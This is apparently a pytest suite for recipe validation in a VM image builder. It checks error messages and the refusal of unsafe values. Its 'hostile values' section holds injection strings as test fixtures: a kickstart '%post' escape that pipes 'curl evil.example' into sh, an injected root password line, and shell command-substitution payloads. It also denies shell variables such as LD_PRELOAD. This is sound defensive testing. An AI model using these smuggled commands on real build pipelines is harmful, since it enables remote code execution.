"""Recipe validation: good recipes load, every bad input is a RecipeError naming file, key, line and fix."""

from __future__ import annotations

import json
import re
import subprocess
import tomllib
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from builder.errors import RecipeError
from builder.recipe import Recipe, RecipeBook, parse_duration_s, parse_size_mib

REPO_ROOT = Path(__file__).resolve().parent.parent

COMMON = ("first.sh", "second.sh")
NODE = ("zeta.sh", "alpha.sh")

BASE = """\
# demo: a recipe written by the tests
name = "demo"
description = "Demo image"
method = "bootstrap"
family = "debian"

[disk]
size = "3G"
format = "qcow2"
compression = "zstd"

[vm]
memory = "1024M"
vcpus = 1
build_timeout = "15m"
idle_timeout = "3m"

[bootstrap]
suite = "bookworm"
components = ["main"]
packages = ["linux-image-amd64", "sudo", "curl"]

[scripts]
common = ["first.sh", "second.sh"]
node = ["zeta.sh", "alpha.sh"]

[vars]
developers_group = "developers"

[register]
NAME = "demo"
TYPE = "OS"
PUBLIC = true
DEV_PREFIX = "vd"
"""


def make_tree(root: Path, text: str, name: str = "demo", common: Sequence[str] = COMMON,
              node: Sequence[str] = NODE) -> Path:
    """Write <root>/images/<name>/image.toml and the scripts; return the image.toml path."""
    recipe_dir = root / "images" / name
    (recipe_dir / "scripts" / "node").mkdir(parents=True, exist_ok=True)
    (root / "scripts" / "common").mkdir(parents=True, exist_ok=True)
    for script in common:
        (root / "scripts" / "common" / script).write_text(f"#!/bin/sh\necho common {script}\n")
    for script in node:
        (recipe_dir / "scripts" / "node" / script).write_text(f"#!/bin/sh\necho node {script}\n")
    path = recipe_dir / "image.toml"
    path.write_text(text)
    return path.resolve()


def edit(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, f"test bug: {old!r} must occur exactly once"
    return text.replace(old, new)


def line_of(text: str, marker: str) -> int:
    """1-based number of the only line that starts with marker (computed here, not by the code under test)."""
    hits = [i for i, line in enumerate(text.splitlines(), 1) if line.strip().startswith(marker)]
    assert len(hits) == 1, f"test bug: marker {marker!r} found on lines {hits}"
    return hits[0]


def load_error(tmp_path: Path, text: str, name: str = "demo") -> tuple[RecipeError, Path]:
    path = make_tree(tmp_path, text, name=name)
    with pytest.raises(RecipeError) as info:
        RecipeBook(tmp_path).load(name)
    return info.value, path


def says_what_to_do(exc: RecipeError) -> bool:
    """A hint, or a problem phrased as the rule to follow ("must be ...", "use ...")."""
    return bool(exc.hint.strip()) or bool(re.search(r"\b(must be|use|write|remove|rename)\b", exc.problem))


# --------------------------------------------------------------------------- good recipes


def test_base_recipe_loads(tmp_path: Path) -> None:
    make_tree(tmp_path, BASE)
    recipe = RecipeBook(tmp_path).load("demo")
    assert recipe.name == "demo"
    assert recipe.method == "bootstrap" and recipe.family == "debian"
    assert recipe.disk.size_mib == 3 * 1024
    assert recipe.vm.build_timeout_s == 15 * 60 and recipe.vm.idle_timeout_s == 3 * 60
    assert recipe.bootstrap is not None
    assert recipe.bootstrap.packages == ("linux-image-amd64", "sudo", "curl")
    assert recipe.kickstart is None
    assert recipe.register.public is True
    assert recipe.register.attributes == (("DEV_PREFIX", "vd"),)


@pytest.mark.parametrize("name", ["generic-dev", "generic-dev-el9"])
def test_reference_recipes_load(name: str) -> None:
    book = RecipeBook(REPO_ROOT)
    assert name in book.names()
    recipe = book.load(name)
    data = tomllib.loads((REPO_ROOT / "images" / name / "image.toml").read_text())
    assert recipe.name == data["name"] == name
    assert recipe.method == data["method"]
    size = data["disk"]["size"]
    assert recipe.disk.size_mib == int(size[:-1]) * {"G": 1024, "M": 1}[size[-1]]
    assert [s.name for s in recipe.scripts] == data["scripts"]["common"] + data["scripts"]["node"]
    assert all(s.path.is_file() for s in recipe.scripts)
    assert recipe.register.name == data["register"]["NAME"]
    assert recipe.register.public is (str(data["register"]["PUBLIC"]).lower() in ("true", "yes"))
    if recipe.method == "bootstrap":
        assert recipe.bootstrap is not None
        assert list(recipe.bootstrap.packages) == data["bootstrap"]["packages"]
    else:
        assert recipe.kickstart is not None
        assert recipe.kickstart.template == REPO_ROOT / "images" / name / data["kickstart"]["template"]
        assert recipe.kickstart.template in recipe.input_files()


def load_all(book: RecipeBook) -> list[Recipe]:
    return [book.load(name) for name in book.names()]


def test_load_all_reference_recipes() -> None:
    recipes = load_all(RecipeBook(REPO_ROOT))
    assert {"generic-dev", "generic-dev-el9"} <= {r.name for r in recipes}


@pytest.mark.parametrize(("value", "mib"), [
    ("3G", 3072), ("512MiB", 512), (2048, 2048), ("3GiB", 3072), ("1T", 1024 * 1024), ("0.5G", 512),
    ("2048M", 2048), ("1048576K", 1024), ("3g", 3072),
])
def test_parse_size(value: object, mib: int) -> None:
    assert parse_size_mib(value) == mib


@pytest.mark.parametrize("value", ["3X", "-1G", "0", 0, -5, "", "G", True, 3.5, "1.5.2G"])
def test_parse_size_rejects(value: object) -> None:
    with pytest.raises(ValueError):
        parse_size_mib(value)


@pytest.mark.parametrize(("value", "seconds"), [("15m", 900), ("90s", 90), ("1h", 3600), (30, 30), ("45", 45)])
def test_parse_duration(value: object, seconds: int) -> None:
    assert parse_duration_s(value) == seconds


@pytest.mark.parametrize("value", ["15 minutes", "-3m", "1.5h", "0", 0, "m", False, 2.5, "1d"])
def test_parse_duration_rejects(value: object) -> None:
    with pytest.raises(ValueError):
        parse_duration_s(value)


@pytest.mark.parametrize(("toml_value", "mib"), [('"3G"', 3072), ('"512MiB"', 512), ("2048", 2048)])
def test_disk_size_in_recipe(tmp_path: Path, toml_value: str, mib: int) -> None:
    make_tree(tmp_path, edit(BASE, 'size = "3G"', f"size = {toml_value}"))
    assert RecipeBook(tmp_path).load("demo").disk.size_mib == mib


@pytest.mark.parametrize(("toml_value", "seconds"), [('"15m"', 900), ('"90s"', 90), ('"1h"', 3600), ("30", 30)])
def test_durations_in_recipe(tmp_path: Path, toml_value: str, seconds: int) -> None:
    text = edit(BASE, 'build_timeout = "15m"', f"build_timeout = {toml_value}")
    text = edit(text, 'idle_timeout = "3m"', f"idle_timeout = {toml_value}")
    make_tree(tmp_path, text)
    vm = RecipeBook(tmp_path).load("demo").vm
    assert (vm.build_timeout_s, vm.idle_timeout_s) == (seconds, seconds)


def test_script_order_common_first_then_node_in_recipe_order(tmp_path: Path) -> None:
    text = edit(BASE, 'common = ["first.sh", "second.sh"]', 'common = ["second.sh", "first.sh"]')
    make_tree(tmp_path, text)
    recipe = RecipeBook(tmp_path).load("demo")
    root = tmp_path.resolve()
    assert [(s.namespace, s.name, s.path) for s in recipe.scripts] == [
        ("common", "second.sh", root / "scripts" / "common" / "second.sh"),
        ("common", "first.sh", root / "scripts" / "common" / "first.sh"),
        ("node", "zeta.sh", root / "images" / "demo" / "scripts" / "node" / "zeta.sh"),
        ("node", "alpha.sh", root / "images" / "demo" / "scripts" / "node" / "alpha.sh"),
    ]


def test_vars_coerced_to_strings_in_recipe_order(tmp_path: Path) -> None:
    text = edit(BASE, 'developers_group = "developers"',
                'developers_group = "developers"\ncount = 3\nenabled = true\ndisabled = false\nratio = 0.5')
    make_tree(tmp_path, text)
    recipe = RecipeBook(tmp_path).load("demo")
    assert recipe.variables == (("developers_group", "developers"), ("count", "3"), ("enabled", "true"),
                                ("disabled", "false"), ("ratio", "0.5"))
    assert all(isinstance(v, str) for _, v in recipe.variables)
    assert recipe.variables_map["count"] == "3"


def test_input_files_lists_image_toml_and_every_script(tmp_path: Path) -> None:
    path = make_tree(tmp_path, BASE)
    recipe = RecipeBook(tmp_path).load("demo")
    root = tmp_path.resolve()
    assert recipe.input_files() == [
        path,
        root / "scripts" / "common" / "first.sh",
        root / "scripts" / "common" / "second.sh",
        root / "images" / "demo" / "scripts" / "node" / "zeta.sh",
        root / "images" / "demo" / "scripts" / "node" / "alpha.sh",
    ]


def test_register_public_accepts_yes_no(tmp_path: Path) -> None:
    make_tree(tmp_path, edit(BASE, "PUBLIC = true", 'PUBLIC = "no"'))
    assert RecipeBook(tmp_path).load("demo").register.public is False
    make_tree(tmp_path, edit(BASE, "PUBLIC = true", 'PUBLIC = "yes"'))
    assert RecipeBook(tmp_path).load("demo").register.public is True


# --------------------------------------------------------------------------- bad recipes


@dataclass(frozen=True)
class Bad:
    id: str
    text: str
    where: str  # how the message names the key: "key" or "section.key"
    marker: str  # the line that holds the key starts with this
    mentions: tuple[str, ...] = ()  # further words the message must contain


BAD = [
    Bad("unknown-top-level-key", edit(BASE, 'family = "debian"\n', 'family = "debian"\nflavour = "dev"\n'),
        "flavour", "flavour ="),
    Bad("unknown-top-level-table", BASE + "\n[extras]\nfoo = 1\n", "extras", "[extras]"),
    Bad("unknown-disk-key", edit(BASE, 'size = "3G"\n', 'size = "3G"\nsise = "4G"\n'), "disk.sise", "sise ="),
    Bad("unknown-vm-key", edit(BASE, "vcpus = 1\n", "vcpus = 1\nmemroy = \"2G\"\n"), "vm.memroy", "memroy ="),
    Bad("unknown-bootstrap-key", edit(BASE, 'suite = "bookworm"\n', 'suite = "bookworm"\npackges = []\n'),
        "bootstrap.packges", "packges ="),
    Bad("missing-common-script", edit(BASE, 'common = ["first.sh", "second.sh"]', 'common = ["first.sh", "nope.sh"]'),
        "scripts.common", "common =", ("nope.sh",)),
    Bad("missing-node-script", edit(BASE, 'node = ["zeta.sh", "alpha.sh"]', 'node = ["zeta.sh", "gone.sh"]'),
        "scripts.node", "node =", ("gone.sh",)),
    Bad("common-script-twice",
        edit(BASE, 'common = ["first.sh", "second.sh"]', 'common = ["first.sh", "second.sh", "first.sh"]'),
        "scripts.common", "common =", ("first.sh",)),
    Bad("node-script-twice", edit(BASE, 'node = ["zeta.sh", "alpha.sh"]', 'node = ["alpha.sh", "zeta.sh", "alpha.sh"]'),
        "scripts.node", "node =", ("alpha.sh",)),
    Bad("size-bad-unit", edit(BASE, 'size = "3G"', 'size = "3X"'), "disk.size", "size =", ("3X",)),
    Bad("size-negative", edit(BASE, 'size = "3G"', 'size = "-1G"'), "disk.size", "size =", ("-1G",)),
    Bad("size-too-small", edit(BASE, 'size = "3G"', 'size = "100M"'), "disk.size", "size =", ("512",)),
    Bad("build-timeout-words", edit(BASE, 'build_timeout = "15m"', 'build_timeout = "15 minutes"'),
        "vm.build_timeout", "build_timeout =", ("15 minutes",)),
    Bad("idle-timeout-negative", edit(BASE, 'idle_timeout = "3m"', 'idle_timeout = "-3m"'),
        "vm.idle_timeout", "idle_timeout =", ("-3m",)),
    Bad("raw-zstd", edit(BASE, 'format = "qcow2"', 'format = "raw"'), "disk.compression", "compression =",
        ("raw",)),
    Bad("package-upper-case", edit(BASE, '"linux-image-amd64", "sudo", "curl"', '"linux-image-amd64", "Sudo", "curl"'),
        "bootstrap.packages", "packages =", ("item 2", "Sudo")),
    Bad("package-space", edit(BASE, '"linux-image-amd64", "sudo", "curl"', '"linux-image-amd64", "sudo", "curl wget"'),
        "bootstrap.packages", "packages =", ("item 3", "curl wget")),
    Bad("package-twice", edit(BASE, '"linux-image-amd64", "sudo", "curl"', '"curl", "sudo", "curl"'),
        "bootstrap.packages", "packages =", ("curl",)),
    Bad("name-not-folder", edit(BASE, 'name = "demo"', 'name = "other"'), "name", "name =", ("other", "demo")),
    Bad("bad-method", edit(BASE, 'method = "bootstrap"', 'method = "debootstrap"'), "method", "method =",
        ("debootstrap",)),
    Bad("kickstart-table-for-bootstrap",
        BASE + '\n[kickstart]\ntemplate = "demo.ks.j2"\nlocation = "https://example.org/os/"\n',
        "kickstart", "[kickstart]"),
    Bad("reserved-sha256", edit(BASE, 'DEV_PREFIX = "vd"', 'DEV_PREFIX = "vd"\nSHA256 = "abc"'), "register.SHA256",
        "SHA256 ="),
    Bad("reserved-path", edit(BASE, 'TYPE = "OS"', 'PATH = "/tmp/x.qcow2"\nTYPE = "OS"'), "register.PATH", "PATH ="),
    Bad("lower-case-register-key", edit(BASE, 'DEV_PREFIX = "vd"', 'dev_prefix = "vd"'), "register.dev_prefix",
        "dev_prefix =", ("DEV_PREFIX",)),
    Bad("public-not-yes-no", edit(BASE, "PUBLIC = true", 'PUBLIC = "maybe"'), "register.PUBLIC", "PUBLIC =",
        ("maybe",)),
    Bad("disk-header-with-comment", edit(BASE, '[disk]\nsize = "3G"', '[disk]  # the image disk\nsize = "3X"'),
        "disk.size", "size =", ("3X",)),
]


@pytest.mark.parametrize("bad", BAD, ids=[b.id for b in BAD])
def test_bad_recipe_names_file_key_and_line(tmp_path: Path, bad: Bad) -> None:
    exc, path = load_error(tmp_path, bad.text)
    msg = str(exc)
    assert str(path) in msg
    assert bad.where in msg
    line = line_of(bad.text, bad.marker)
    assert re.search(rf"\bline {line}\b", msg), f"line {line} not named in: {msg}"
    for word in bad.mentions:
        assert word in msg


@pytest.mark.parametrize("bad", BAD, ids=[b.id for b in BAD])
def test_bad_recipe_says_what_to_do(tmp_path: Path, bad: Bad) -> None:
    exc, _ = load_error(tmp_path, bad.text)
    assert says_what_to_do(exc), f"no advice in: {exc}"


def test_missing_bootstrap_table(tmp_path: Path) -> None:
    start = BASE.index("[bootstrap]")
    text = BASE[:start] + BASE[BASE.index("[scripts]"):]
    exc, path = load_error(tmp_path, text)
    msg = str(exc)
    assert str(path) in msg
    assert "[bootstrap]" in msg
    assert says_what_to_do(exc)


def test_toml_syntax_error_names_file_and_line(tmp_path: Path) -> None:
    text = edit(BASE, "vcpus = 1", "vcpus = = 1")
    exc, path = load_error(tmp_path, text)
    msg = str(exc)
    assert str(path) in msg
    assert re.search(rf"\bline {line_of(text, 'vcpus')}\b", msg), msg
    assert "TOML" in msg


def test_unknown_recipe_lists_known_ones(tmp_path: Path) -> None:
    make_tree(tmp_path, BASE)
    make_tree(tmp_path, edit(BASE, 'name = "demo"', 'name = "second"').replace('NAME = "demo"', 'NAME = "second"'),
              name="second")
    with pytest.raises(RecipeError) as info:
        RecipeBook(tmp_path).load("dmeo")
    msg = str(info.value)
    assert "dmeo" in msg
    assert str(tmp_path.resolve() / "images" / "dmeo" / "image.toml") in msg
    assert "known recipes: demo, second" in msg


def test_kickstart_recipe_with_bootstrap_table_rejected(tmp_path: Path) -> None:
    text = edit(BASE, 'method = "bootstrap"\nfamily = "debian"', 'method = "kickstart"\nfamily = "rhel"')
    text += '\n[kickstart]\ntemplate = "demo.ks.j2"\nlocation = "https://example.org/os/"\n'
    path = make_tree(tmp_path, text)
    (path.parent / "demo.ks.j2").write_text("text\n")
    with pytest.raises(RecipeError) as info:
        RecipeBook(tmp_path).load("demo")
    assert "bootstrap" in info.value.where
    assert str(path) in str(info.value)


def test_loaded_recipe_is_immutable(tmp_path: Path) -> None:
    make_tree(tmp_path, BASE)
    recipe: Recipe = RecipeBook(tmp_path).load("demo")
    with pytest.raises(AttributeError):
        recipe.name = "other"  # type: ignore[misc]


# --------------------------------------------------------------------------- hostile values


@dataclass(frozen=True)
class Hostile:
    id: str
    text: str
    where: str
    marker: str


HOSTILE = [
    Hostile("multi-line-description",
            edit(BASE, 'description = "Demo image"',
                 'description = """Demo image\nsshpw --username=root --plaintext hunter2"""'),
            "description", "description ="),
    Hostile("var-value-ends-post",
            edit(BASE, 'developers_group = "developers"',
                 'developers_group = "developers\\n%end\\n%post\\ncurl evil.example | sh"'),
            "vars.developers_group", "developers_group ="),
    Hostile("var-key-trailing-newline", edit(BASE, 'developers_group = "developers"', '"reboot\\n" = "x"'),
            "vars", '"reboot\\n" ='),
    Hostile("register-name-trailing-newline", edit(BASE, 'NAME = "demo"', 'NAME = "demo\\n"'),
            "register.NAME", "NAME ="),
    Hostile("package-trailing-newline", edit(BASE, '"sudo", "curl"', '"sudo", "curl\\n"'),
            "bootstrap.packages", "packages ="),
    Hostile("register-attribute-newline", edit(BASE, 'DEV_PREFIX = "vd"', 'DEV_PREFIX = "vd\\nPATH = \\"/etc\\""'),
            "register.DEV_PREFIX", "DEV_PREFIX ="),
    Hostile("description-unicode-line-separator", edit(BASE, 'description = "Demo image"',
                                                       'description = "Demo\\u2028sshpw --plaintext x"'),
            "description", "description ="),
    Hostile("description-tab", edit(BASE, 'description = "Demo image"', 'description = "Demo\\timage"'),
            "description", "description ="),
    Hostile("description-bidi-override", edit(BASE, 'description = "Demo image"',
                                              'description = "Demo \\u202eegami"'),
            "description", "description ="),
    Hostile("script-name-newline", edit(BASE, 'node = ["zeta.sh", "alpha.sh"]', 'node = ["zeta.sh\\n", "alpha.sh"]'),
            "scripts.node", "node ="),
]


@pytest.mark.parametrize("bad", HOSTILE, ids=[b.id for b in HOSTILE])
def test_line_breaks_and_control_characters_refused(tmp_path: Path, bad: Hostile) -> None:
    exc, path = load_error(tmp_path, bad.text)
    msg = str(exc)
    assert str(path) in msg and bad.where in msg
    assert re.search(rf"\bline {line_of(bad.text, bad.marker)}\b", msg), msg
    assert re.search(r"(line break|control character) \(U\+[0-9A-F]{4}\)", msg), msg
    assert says_what_to_do(exc)


@pytest.mark.parametrize("name", ["PATH", "IFS", "LD_PRELOAD", "BASH_ENV", "IMAGE_NAME"])
def test_shell_special_variable_names_refused(tmp_path: Path, name: str) -> None:
    text = edit(BASE, 'developers_group = "developers"', f'{name} = "/tmp/x"')
    exc, _ = load_error(tmp_path, text)
    assert f"vars.{name}" in str(exc) and f"line {line_of(text, name + ' =')}" in str(exc)
    assert says_what_to_do(exc)


@pytest.mark.parametrize("name", ["demo\n", "Demo", "-demo", "de mo"])
def test_bad_image_names_refused(tmp_path: Path, name: str) -> None:
    text = edit(BASE, 'name = "demo"', f"name = {json.dumps(name)}")
    exc, _ = load_error(tmp_path, text)
    assert "name" in exc.where


HOSTILE_VALUES = ["$(touch {pwned})", "`touch {pwned}`", "'; touch {pwned}; '", "\"; touch {pwned}; \"",
                  "%end %post touch {pwned}", "a b\\ c * ? [x]"]


@pytest.mark.parametrize("template", HOSTILE_VALUES)
def test_bootstrap_vars_reach_scripts_as_data(tmp_path: Path, template: str) -> None:
    # The bootstrap writes [vars] to vars.sh, which the finish VM sources before each script.
    from builder.methods.bootstrap import configure_tree

    pwned = tmp_path / "pwned"
    value = template.format(pwned=pwned)
    text = edit(BASE, 'developers_group = "developers"', f"developers_group = {json.dumps(value)}")
    make_tree(tmp_path / "repo", text)
    recipe = RecipeBook(tmp_path / "repo").load("demo")
    tree = tmp_path / "tree"
    (tree / "boot").mkdir(parents=True)
    (tree / "boot" / "vmlinuz-6.1.0").write_text("")
    (tree / "boot" / "initrd.img-6.1.0").write_text("")
    configure_tree(recipe, tree, "0123-4567")
    vars_sh = tree / "root" / "kickgate" / "vars.sh"
    out = subprocess.run(["sh", "-c", 'set -a; . "$1"; set +a; printf %s "$developers_group"', "sh", str(vars_sh)],
                         capture_output=True, text=True, timeout=10, check=True).stdout
    assert out == value
    assert not pwned.exists()


# --------------------------------------------------------------------------- [verify]


def test_verify_instances_are_isolated_unless_the_recipe_asks(tmp_path: Path) -> None:
    make_tree(tmp_path, BASE)
    assert RecipeBook(tmp_path).load("demo").verify.network == "isolated"
    make_tree(tmp_path / "out", BASE + '\n[verify]\nnetwork = "outbound"\nreason = "specs fetch a CA bundle"\n')
    verify = RecipeBook(tmp_path / "out").load("demo").verify
    assert (verify.network, verify.reason) == ("outbound", "specs fetch a CA bundle")


def test_outbound_access_needs_a_reason(tmp_path: Path) -> None:
    text = BASE + '\n[verify]\nnetwork = "outbound"\n'
    exc, path = load_error(tmp_path, text)
    assert exc.path == str(path) and "verify" in exc.where and "reason" in exc.problem + exc.hint
    exc, _ = load_error(tmp_path / "bad", BASE + '\n[verify]\nnetwork = "open"\n')
    assert "must be 'isolated' or 'outbound'" in exc.problem and str(line_of(BASE + '\n[verify]\nnetwork = "open"\n',
                                                                          "network =")) in exc.where


def test_verify_settings_do_not_change_the_cache_key(tmp_path: Path) -> None:
    from builder.build import recipe_hash

    make_tree(tmp_path, BASE)
    make_tree(tmp_path / "out", BASE + '\n[verify]\nnetwork = "outbound"\nreason = "why"\n')
    assert recipe_hash(RecipeBook(tmp_path).load("demo")) == recipe_hash(RecipeBook(tmp_path / "out").load("demo"))
